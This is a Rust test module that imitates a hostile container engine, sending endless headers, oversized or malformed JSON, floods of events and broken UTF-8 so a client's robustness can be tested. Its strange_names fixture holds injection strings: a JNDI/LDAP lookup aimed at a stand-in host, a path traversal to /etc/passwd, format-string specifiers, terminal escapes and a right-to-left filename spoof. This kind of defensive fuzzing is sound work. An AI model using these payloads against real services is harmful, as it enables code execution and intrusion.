//! Engines that want to do harm: a catalogue of misbehaviour on the engine's socket, in threads of the test.
//!
//! Where a misbehaviour has its place in one kind of reply, the others are what a plain engine would say, so that a
//! client comes to that place.

mod server;

use std::io::{self, Write};
use std::net::Shutdown;
use std::os::unix::net::UnixStream;
use std::thread;
use std::time::Duration;

pub(super) use server::HostileEngine;

/// What an engine does wrong.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Misbehaviour {
    /// A reply's headers never end.
    EndlessHeaders,
    /// One header is never finished.
    EndlessHeader,
    /// Takes the request and never answers.
    NeverAnswers,
    /// Answers one byte of a reply on each connection, and closes.
    ClosesAfterEveryByte,
    /// Answers ten bytes a second.
    SlowDrip,
    /// Says that a gigabyte comes, and sends a little of it.
    HugeContentLength,
    /// A chunk of the greatest length that there is.
    HugeChunk,
    /// A body without an end, without a length: spaces, which JSON allows.
    EndlessBody,
    /// Interim replies (100 Continue) without an end.
    EndlessInterimReplies,
    /// Bytes that are no HTTP.
    NotHttp,
    /// A reply with this status and a message.
    Status(u16),
    /// A redirection elsewhere.
    Redirect,
    /// A body that is no JSON.
    NotJson,
    /// Arrays in arrays, a million deep.
    DeepJson,
    /// The right shape with texts for numbers and numbers for texts.
    WrongTypes,
    /// A list of containers with names of markup, NUL, ANSI escapes, right-to-left marks, and a very long one.
    StrangeNames,
    /// A list of containers with bytes that are no UTF-8, and halves of surrogate pairs.
    InvalidUtf8,
    /// A list of a million containers.
    MillionContainers,
    /// A list with one container of 100 MB.
    HugeContainer,
    /// A description of a container of ten megabytes.
    TenMegabytes,
    /// Ten megabytes of an event without a newline, and then silence.
    EndlessEvent,
    /// Events as fast as they can be sent, each of which may change the list.
    EventFlood,
    /// Events in pieces of one byte, each a chunk.
    EventsInBytes,
}

impl Misbehaviour {
    /// All of them, with a status of each kind.
    pub const ALL: [Self; 25] = [
        Self::EndlessHeaders,
        Self::EndlessHeader,
        Self::NeverAnswers,
        Self::ClosesAfterEveryByte,
        Self::SlowDrip,
        Self::HugeContentLength,
        Self::HugeChunk,
        Self::EndlessBody,
        Self::EndlessInterimReplies,
        Self::NotHttp,
        Self::Status(400),
        Self::Status(404),
        Self::Status(500),
        Self::Redirect,
        Self::NotJson,
        Self::DeepJson,
        Self::WrongTypes,
        Self::StrangeNames,
        Self::InvalidUtf8,
        Self::MillionContainers,
        Self::HugeContainer,
        Self::TenMegabytes,
        Self::EndlessEvent,
        Self::EventFlood,
        Self::EventsInBytes,
    ];

    /// Where it has its place; everywhere if empty.
    #[must_use]
    pub fn place(self) -> &'static str {
        match self {
            Self::DeepJson
            | Self::WrongTypes
            | Self::StrangeNames
            | Self::InvalidUtf8
            | Self::MillionContainers
            | Self::HugeContainer => "/containers/json",
            Self::TenMegabytes => "/containers/plain/json",
            Self::EndlessEvent | Self::EventFlood | Self::EventsInBytes => "/events",
            _ => "",
        }
    }

    /// Does it, until the client goes.
    fn happen(self, stream: &mut UnixStream, earlier: usize) -> io::Result<()> {
        let whole = |status: &str, body: &str| {
            format!(
                "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            )
        };
        let begun = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n";
        match self {
            Self::EndlessHeaders => {
                stream.write_all(b"HTTP/1.1 200 OK\r\n")?;
                forever(stream, b"X-More: and more\r\n")
            }
            Self::EndlessHeader => {
                stream.write_all(b"HTTP/1.1 200 OK\r\nX-More: ")?;
                forever(stream, &[b'a'; 4096])
            }
            Self::NeverAnswers => listen(stream),
            Self::ClosesAfterEveryByte => {
                let reply = whole("200 OK", VERSION);
                stream.write_all(&reply.as_bytes()[earlier % reply.len()..][..1])?;
                stream.shutdown(Shutdown::Both)
            }
            Self::SlowDrip => {
                for byte in whole("200 OK", VERSION).bytes().cycle() {
                    stream.write_all(&[byte])?;
                    thread::sleep(Duration::from_millis(100));
                }
                Ok(())
            }
            Self::HugeContentLength => {
                write!(stream, "{begun}Content-Length: 1000000000\r\n\r\n[{{\"Id\":\"")?;
                listen(stream)
            }
            Self::HugeChunk => {
                write!(stream, "{begun}Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n[")?;
                forever(stream, &[b' '; 4096])
            }
            Self::EndlessBody => {
                write!(stream, "{begun}Connection: close\r\n\r\n")?;
                forever(stream, &[b' '; 65536])
            }
            Self::EndlessInterimReplies => forever(stream, b"HTTP/1.1 100 Continue\r\n\r\n"),
            Self::NotHttp => {
                stream.write_all(b"\x15\x03\x01\x00\x02\x02\x50 SSH-2.0-what\r\n\r\n")?;
                listen(stream)
            }
            // It has no body (RFC 9110, 15.4.5).
            Self::Status(304) => stream.write_all(b"HTTP/1.1 304 Not Modified\r\n\r\n"),
            Self::Status(code) => {
                let text = format!("{code} Whatever");
                stream.write_all(whole(&text, "{\"message\":\"<b>no\\u001b[31m\\u202e\"}\n").as_bytes())
            }
            Self::Redirect => {
                stream.write_all(b"HTTP/1.1 302 Found\r\nLocation: http://192.0.2.1/\r\nContent-Length: 0\r\n\r\n")
            }
            Self::NotJson => stream.write_all(whole("200 OK", "<html>no</html>").as_bytes()),
            Self::DeepJson => {
                write!(stream, "{begun}Content-Length: 1000000\r\n\r\n")?;
                stream.write_all(&vec![b'['; 1_000_000])
            }
            Self::WrongTypes => stream.write_all(
                whole(
                    "200 OK",
                    r#"[{"Id":7,"Names":"/web","Image":null,"Command":["a"],"Created":"1700000000","Ports":{"a":1},
                    "Labels":[],"State":true,"Status":1e999},{"Id":null,"Names":[[],{},3],"Created":-1e30,
                    "Ports":[{"PrivatePort":"80","PublicPort":-1,"Type":7,"IP":[]}]},[],"text",null,7]"#,
                )
                .as_bytes(),
            ),
            Self::StrangeNames => stream.write_all(whole("200 OK", &strange_names()).as_bytes()),
            Self::InvalidUtf8 => {
                let body = [
                    b"[".as_slice(),
                    container("a\u{fffd}").replace('\u{fffd}', "\\ud800").as_bytes(),
                    b",{\"Id\":\"\xff\xfe\",\"Names\":[\"/\xc0\xaf\xed\xa0\x80\"],\"State\":\"running\"}]",
                ]
                .concat();
                write!(stream, "{begun}Content-Length: {}\r\n\r\n", body.len())?;
                stream.write_all(&body)
            }
            Self::MillionContainers => {
                write!(stream, "{begun}Connection: close\r\n\r\n[")?;
                for thousand in 0..1000 {
                    let names = (0..1000).map(|one| container(&format!("c{thousand}-{one}"))).collect::<Vec<_>>();
                    let comma = if thousand == 0 { "" } else { "," };
                    write!(stream, "{comma}{}", names.join(","))?;
                }
                stream.write_all(b"]")?;
                stream.shutdown(Shutdown::Both)
            }
            Self::HugeContainer => {
                write!(stream, "{begun}Connection: close\r\n\r\n[{{\"Id\":\"1\",\"Command\":\"")?;
                (0..1000).try_for_each(|_| stream.write_all(&[b'x'; 100_000]))?;
                stream.write_all(b"\"}]")?;
                stream.shutdown(Shutdown::Both)
            }
            Self::TenMegabytes => {
                let filler = vec![b'x'; 10_000_000];
                write!(stream, "{begun}Content-Length: {}\r\n\r\n{{\"Id\":\"", filler.len() + 9)?;
                stream.write_all(&filler)?;
                stream.write_all(b"\"}")
            }
            Self::EndlessEvent => {
                write!(stream, "{begun}Transfer-Encoding: chunked\r\n\r\n{:x}\r\n{{\"status\":\"", 10_000_000)?;
                (0..100).try_for_each(|_| stream.write_all(&[b'x'; 100_000]))?;
                listen(stream)
            }
            Self::EventFlood => {
                write!(stream, "{begun}Transfer-Encoding: chunked\r\n\r\n")?;
                let chunk = format!("{:x}\r\n{EVENT}\r\n", EVENT.len());
                forever(stream, chunk.repeat(100).as_bytes())
            }
            Self::EventsInBytes => {
                write!(stream, "{begun}Transfer-Encoding: chunked\r\n\r\n")?;
                EVENT.bytes().cycle().try_for_each(|byte| {
                    stream.write_all(&[b'1', b'\r', b'\n', byte, b'\r', b'\n'])?;
                    thread::sleep(Duration::from_micros(if byte == b'\n' { 500_000 } else { 200 }));
                    Ok(())
                })
            }
        }
    }
}

/// What a plain engine says.
const VERSION: &str =
    r#"{"Version":"20.10.24","ApiVersion":"1.41","MinAPIVersion":"1.12","Os":"linux","Arch":"amd64"}"#;
const INFO: &str = r#"{"ID":"HOSTILE","Containers":1,"Name":"hostile","ServerVersion":"20.10.24"}"#;
const INSPECT: &str = r#"{"Id":"6f1cplain","Name":"/plain","State":{"Running":true},"Config":{"Labels":{}}}"#;
const TOP: &str = r#"{"Titles":["PID","CMD"],"Processes":[["1","sleep 1000"]]}"#;
const EVENT: &str = concat!(
    r#"{"status":"start","id":"6f1c","from":"lab/busybox:1","Type":"container","Action":"start","#,
    r#""Actor":{"ID":"6f1c","Attributes":{"name":"plain"}},"scope":"local","time":1700000000,"#,
    r#""timeNano":1700000000000000000}"#,
    "\n"
);

/// A container of the list, by the text of its name as JSON has it between the quotes.
fn container(name: &str) -> String {
    format!(
        "{{\"Id\":\"6f1c{name}\",\"Names\":[\"/{name}\"],\"Image\":\"lab/busybox:1\",\"ImageID\":\"sha256:50\",\
         \"Command\":\"sleep 1000\",\"Created\":1700000000,\"Ports\":[],\"Labels\":{{}},\"State\":\"running\",\
         \"Status\":\"Up 2 minutes\",\"Mounts\":[]}}"
    )
}

fn strange_names() -> String {
    let long = "n".repeat(1_000_000);
    let names = [
        "]]></docker_ps><entry><name>fake",
        "&amp;&#0;&lt;",
        r"nul\u0000in",
        r"\u001b[2Jansi\u001b]0;title\u0007",
        r"\u202egpj.exe\u2066",
        r"\ufffe\uffff\u0085\u2028",
        r"line\nbreak\r\n\tand tab",
        r"../../etc/passwd",
        "${jndi:ldap://192.0.2.1/a}%s%n",
        "",
        &long,
    ];
    format!("[{}]", names.map(container).join(","))
}

/// Sends the same until the client goes.
fn forever(stream: &mut UnixStream, bytes: &[u8]) -> io::Result<()> {
    loop {
        stream.write_all(bytes)?;
    }
}

/// Reads until the client goes.
fn listen(stream: &mut UnixStream) -> io::Result<()> {
    io::copy(stream, &mut io::sink()).map(|_| ())
}
